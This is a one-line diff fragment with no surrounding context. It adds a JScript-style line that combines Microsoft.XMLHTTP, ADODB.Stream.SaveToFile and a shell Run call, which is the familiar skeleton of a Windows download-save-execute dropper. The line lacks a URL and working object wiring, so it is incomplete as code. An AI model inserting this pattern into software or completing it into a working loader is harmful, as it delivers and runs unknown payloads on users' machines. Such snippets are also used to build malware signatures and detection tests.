@@ -1,0 +1,1 @@
+new ActiveXObject("Microsoft.XMLHTTP"); new ActiveXObject("ADODB.Stream").SaveToFile("a"); sh.Run("a")
